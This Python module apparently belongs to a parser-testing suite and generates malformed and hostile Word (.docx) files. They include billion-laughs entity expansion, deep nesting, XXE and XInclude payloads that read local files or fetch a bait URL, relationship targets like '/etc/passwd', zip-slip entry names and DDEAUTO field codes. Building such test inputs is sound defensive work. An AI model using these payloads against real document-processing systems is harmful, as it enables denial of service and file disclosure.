"""Hostile Word documents (Office Open XML)."""
# ruff: noqa: E501 - a case stands as one row of its table, however long

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping, Sequence
from random import Random

from campaigns.documents.document import TEXT, Bait, Document, packed

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = f"""<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types">\
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
<Default Extension="xml" ContentType="application/xml"/>\
<Override PartName="/word/document.xml" ContentType=\
"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
RELS = f"""<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" \
Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>"""


def paragraph(text: str, properties: str = "") -> str:
    """One paragraph."""
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


GOOD = "".join(paragraph(line) for line in TEXT)


def docx(
    body: str,
    head: str = "",
    method: int = zipfile.ZIP_DEFLATED,
    parts: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """A document of this body, with further parts."""
    given = parts or {}
    xml = f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document xmlns:w="{W}" xmlns:r="{R}">'
    links = "".join(
        f'<Relationship Id="part{n}" Type="{R}/{name}" Target="{name}.xml"/>'
        for n, name in enumerate(("numbering", "styles", "footnotes"))
        if f"word/{name}.xml" in given
    )
    rels = f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'
    return packed(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": RELS,
            "word/_rels/document.xml.rels": rels,
            "word/document.xml": f"{xml}<w:body>{body}</w:body></w:document>",
            **given,
        },
        method,
    )


def _cell(content: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{content}</w:tc>"


def _span(columns: int) -> str:
    return f"<w:gridSpan w:val='{columns}'/>"


def _table(rows: str, columns: int = 2) -> str:
    grid = "".join("<w:gridCol w:w='100'/>" for _ in range(columns))
    return f"<w:tbl><w:tblPr/><w:tblGrid>{grid}</w:tblGrid>{rows}</w:tbl>"


def nested(deep: int, merged: bool = True) -> str:
    """Tables in tables, each of two rows of two cells, of which the second row is merged upwards."""
    body = paragraph("底")
    start, more = ("<w:vMerge w:val='restart'/>", "<w:vMerge/>") if merged else ("", "")
    for _ in range(deep):
        row = _cell(body + paragraph("x"), start) + _cell(
            paragraph("左"), "<w:gridSpan w:val='2'/>"
        )
        body = _table(
            f"<w:tr>{row}</w:tr><w:tr>{_cell(paragraph(''), more)}{_cell(paragraph('右'))}</w:tr>"
        )
    return body + paragraph("")


def numbering(level: str, start: str = "1", text: str = "%1、") -> str:
    """A numbering part of one definition."""
    return (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">'
        f'<w:start w:val="{start}"/><w:numFmt w:val="{level}"/><w:lvlText w:val="{text}"/></w:lvl>'
        f'</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )


NUMBERED = "".join(
    paragraph(line, "<w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr>") for line in TEXT
)


Case = tuple[str, Callable[[], bytes]]
"""What it is, and how it is made."""


def one(cases: Sequence[Case], chance: Random) -> tuple[str, bytes]:
    """Make one of them."""
    what, make = chance.choice(cases)
    return what, make()


def word(chance: Random, bait: Bait) -> Document:
    """One hostile Word document."""
    what, data = chance.choice((_tables, _numbers, _styles, _deep, _external, _shapes))(
        chance, bait
    )
    return Document("docx", what, "方案.docx", data)


def _tables(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    n = chance.choice((10, 20, 60, 400))
    wide = chance.choice((10**4, 10**6, 10**9, 10**40))
    row = f"<w:tr>{_cell(paragraph('a'))}{_cell(paragraph('b'))}</w:tr>"
    start, more = "<w:vMerge w:val='restart'/>", "<w:vMerge/>"
    cases: tuple[Case, ...] = (
        (f"nested tables with merged rows, {n} deep", lambda: docx(GOOD + nested(n))),
        (f"nested tables, {n} deep", lambda: docx(GOOD + nested(n, merged=False))),
        (f"gridSpan {wide}", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('a'), _span(wide))}</w:tr>" * 20))),
        (f"gridBefore {wide}", lambda: docx(GOOD + _table(f"<w:tr><w:trPr><w:gridBefore w:val='{wide}'/></w:trPr>{_cell(paragraph('a'))}</w:tr>"))),
        (f"gridAfter {wide}", lambda: docx(GOOD + _table(f"<w:tr><w:trPr><w:gridAfter w:val='{wide}'/></w:trPr>{_cell(paragraph('a'))}</w:tr>" + row))),
        ("rows", lambda: docx(GOOD + _table(row * (n * 200)))),
        ("columns", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('a')) * (n * 100)}</w:tr>", n * 100))),
        ("a long merged column", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('长' * 3000), start)}{_cell(paragraph('b'))}</w:tr>"
              + f"<w:tr>{_cell(paragraph(''), more)}{_cell(paragraph('b'))}</w:tr>" * (n * 50)))),
        ("a wide merge of long text", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('长' * 5000), _span(60))}</w:tr>" * n, 60))),
        ("merges without a start", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('a'), more)}</w:tr>" * n))),
        ("cells in cells", lambda: docx(GOOD + _table("<w:tr>" + "<w:tc>" * n + "</w:tc>" * n + "</w:tr>"))),
        ("negative spans", lambda: docx(GOOD + _table(f"<w:tr>{_cell(paragraph('a'), _span(-5))}</w:tr>"))),
        ("many tables", lambda: docx(GOOD + (_table(row) + paragraph("")) * (n * 20))),
    )  # fmt: skip
    return one(cases, chance)


def _numbers(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    level = chance.choice(
        (
            "decimal",
            "chineseCounting",
            "chineseCountingThousand",
            "lowerRoman",
            "upperLetter",
            "ideographTraditional",
            "bullet",
            "decimalEnclosedCircle",
            "nonsense",
            "upperRoman",
        )
    )
    start = chance.choice(
        ("9" * 20, "9" * 5000, "-1", "2147483648", "x", "", "3999999", "1000000000", "٣")
    )
    ring = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    ring_style = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="numbering" w:styleId="a"><w:pPr><w:numPr><w:numId w:val="1"/>'
        "</w:numPr></w:pPr></w:style></w:styles>"
    )
    deep = "".join(
        paragraph(
            "项",
            f"<w:numPr><w:ilvl w:val='{chance.choice((9, 99, 10**9, -1))}'/><w:numId w:val='1'/></w:numPr>",
        )
        for _ in range(9)
    )
    cases: tuple[Case, ...] = (
        (f"{level} from {start[:12]} ({len(start)} digits)", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, start)})),
        ("a numbering text of 1 MB", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, text="第%1条" * 200_000)})),
        ("a numbering text of 1 MB, many items", lambda: docx(NUMBERED * 200, parts={"word/numbering.xml": numbering(level, text="长" * 350_000 + "%1")})),
        ("numbering text of percent signs", lambda: docx(NUMBERED, parts={"word/numbering.xml": numbering(level, text="%1%2%9%0" * 20_000)})),
        ("numbering that bites itself", lambda: docx(NUMBERED, parts={"word/numbering.xml": ring, "word/styles.xml": ring_style})),
        ("levels that are none", lambda: docx(deep, parts={"word/numbering.xml": numbering(level)})),
        ("many definitions", lambda: docx(NUMBERED, parts={"word/numbering.xml": f'<w:numbering xmlns:w="{W}">' + "".join(
            f'<w:abstractNum w:abstractNumId="{i}"/><w:num w:numId="{i}"><w:abstractNumId w:val="{i}"/></w:num>' for i in range(30_000)) + "</w:numbering>"})),
        ("many numbered items", lambda: docx(NUMBERED * 3000, parts={"word/numbering.xml": numbering(level)})),
    )  # fmt: skip
    return one(cases, chance)


def _styles(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    n = chance.choice((1, 2, 50, 5_000, 40_000))
    loop = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="heading {i}"/>'
        f'<w:basedOn w:val="s{(i + 1) % n}"/><w:link w:val="s{(i + 1) % n}"/></w:style>'
        for i in range(n)
    )
    chain = loop.replace('<w:basedOn w:val="s0"/><w:link w:val="s0"/></w:style>', "</w:style>")
    body = "".join(
        paragraph(line, "<w:pStyle w:val='s0'/><w:outlineLvl w:val='99999999999'/>")
        for line in TEXT
    )
    cases: tuple[Case, ...] = (
        (f"styles based on each other, a ring of {n}", lambda: docx(body, parts={"word/styles.xml": f'<w:styles xmlns:w="{W}">{loop}</w:styles>'})),
        (f"styles based on each other, a chain of {n}", lambda: docx(body, parts={"word/styles.xml": f'<w:styles xmlns:w="{W}">{chain}</w:styles>'})),
    )  # fmt: skip
    return one(cases, chance)


def _deep(chance: Random, bait: Bait) -> tuple[str, bytes]:
    n = chance.choice((300, 1_000, 20_000, 100_000))
    tag = chance.choice(
        ("w:sdt><w:sdtContent", "w:ins", "w:smartTag", "w:r", "w:p", "w:txbxContent", "a")
    )
    open_, close = f"<{tag}>", "".join(f"</{t}>" for t in reversed(tag.split("><")))
    laughs = "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    square = f'<!DOCTYPE x [<!ENTITY a "{"长" * 50_000}">]>'
    head = (
        f'<!DOCTYPE x SYSTEM "{bait.url("dtd")}" [<!ENTITY x SYSTEM "file://{bait.file}">'
        f'<!ENTITY % p SYSTEM "{bait.url("pe")}">%p;]>'
    )
    cases: tuple[Case, ...] = (
        (f"{tag} {n} deep", lambda: docx(GOOD + open_ * n + close * n)),
        (f"{tag} {n} deep, never closed", lambda: docx(GOOD + open_ * n)),
        ("entities that multiply", lambda: docx(GOOD + paragraph("&j;"), f'<!DOCTYPE x [<!ENTITY a "哈哈哈哈">{laughs}]>')),
        ("one large entity many times", lambda: docx(GOOD + paragraph("&a;" * 3_000), square)),
        ("entities from outside", lambda: docx(GOOD + paragraph("&x;"), head)),
        ("an attribute of 10 MB", lambda: docx(GOOD + f'<w:p w:x="{"x" * (10 << 20)}"/>')),
        ("100,000 attributes", lambda: docx(GOOD + "<w:p " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>")),
        ("100,000 namespaces", lambda: docx(GOOD + "<w:p " + " ".join(f'xmlns:n{i}="u{i}"' for i in range(100_000)) + "/>")),
        ("a text of 10 MB", lambda: docx(GOOD + paragraph("长" * (10 << 20 >> 2)))),
        ("300,000 paragraphs", lambda: docx(GOOD + paragraph("段") * 300_000)),
        ("a paragraph of 200,000 runs", lambda: docx(GOOD + "<w:p>" + "<w:r><w:t>字</w:t></w:r>" * 200_000 + "</w:p>")),
        ("XInclude", lambda: docx(GOOD + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.file}" parse="text"/>')),
        ("a style sheet", lambda: docx(GOOD, f'<?xml-stylesheet type="text/xsl" href="{bait.url("xsl")}"?>')),
        ("breaks", lambda: docx(GOOD + "<w:p><w:r>" + "<w:br/><w:tab/>" * 200_000 + "</w:r></w:p>")),
    )  # fmt: skip
    return one(cases, chance)


def _external(chance: Random, bait: Bait) -> tuple[str, bytes]:
    kind = chance.choice(
        (
            "image",
            "attachedTemplate",
            "oleObject",
            "hyperlink",
            "subDocument",
            "aFChunk",
            "frame",
            "officeDocument",
            "numbering",
            "styles",
            "customXml",
        )
    )
    target = chance.choice(
        (
            bait.url(kind),
            f"file://{bait.file}",
            "../../../../../../etc/passwd",
            f"\\\\127.0.0.1\\{kind}",
            str(bait.file),
            "http://[::1/",
            "word/../word/document.xml",
        )
    )
    mode = chance.choice((' TargetMode="External"', ""))
    rels = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId9" Type="{R}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    field = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code} "{bait.file}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in ("INCLUDETEXT", "DDEAUTO c:\\\\x", "INCLUDEPICTURE", "LINK")
    )
    body = GOOD + field + '<w:altChunk r:id="rId9"/><w:subDoc r:id="rId9"/>'
    where = chance.choice(
        ("word___rels__document.xml.rels", "_rels__.rels", "word___rels__settings.xml.rels")
    )
    name = {
        "word___rels__document.xml.rels": "word/_rels/document.xml.rels",
        "_rels__.rels": "_rels/.rels",
    }.get(where, "word/_rels/settings.xml.rels")
    return f"{kind} to {target[:40]} in {name}{mode}", with_part(docx(body), name, rels)


def with_part(data: bytes, name: str, content: str) -> bytes:
    """The same package with one part put in or changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        parts: dict[str, bytes | str] = {part: file.read(part) for part in file.namelist()}
    return packed(parts | {name: content})


STRICT = f'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>{GOOD}</w:body></w:document>'


def _shapes(chance: Random, bait: Bait) -> tuple[str, bytes]:
    del bait
    good = docx(GOOD)
    cases: tuple[Case, ...] = (
        ("no document part", lambda: packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS})),
        ("an empty document part", lambda: with_part(good, "word/document.xml", "")),
        ("a document part that is no XML", lambda: with_part(good, "word/document.xml", "\0\xff<")),
        ("content types that are none", lambda: with_part(good, "[Content_Types].xml", "<a/>")),
        ("relationships that are none", lambda: with_part(good, "_rels/.rels", "<a")),
        ("an encoding that is none", lambda: docx(GOOD).replace(b"UTF-8", b"UTF-9")),
        ("UTF-16 that is none", lambda: with_part(good, "word/document.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>')),
        ("UTF-7", lambda: with_part(good, "word/document.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-')),
        ("vbaProject", lambda: with_part(good, "word/vbaProject.bin", "x" * 1000)),
        ("an Excel name", lambda: with_part(good, "xl/workbook.xml", "<workbook/>")),
        ("a root of another kind", lambda: with_part(good, "word/document.xml", f'<w:body xmlns:w="{W}"/>')),
        ("the strict namespace", lambda: with_part(good, "word/document.xml", STRICT)),
        ("names that lead out", lambda: packed({"../../../evil.xml": "x", "/etc/passwd": "x", "word/document.xml": "x"})),
        ("footnotes", lambda: docx(GOOD, parts={"word/footnotes.xml": f'<w:footnotes xmlns:w="{W}">' + f'<w:footnote w:id="1">{paragraph("注")}</w:footnote>' * 50_000 + "</w:footnotes>"})),
    )  # fmt: skip
    return one(cases, chance)


FAMILIES: tuple[Callable[[Random, Bait], tuple[str, bytes]], ...] = (
    _tables, _numbers, _styles, _deep, _external, _shapes,
)  # fmt: skip
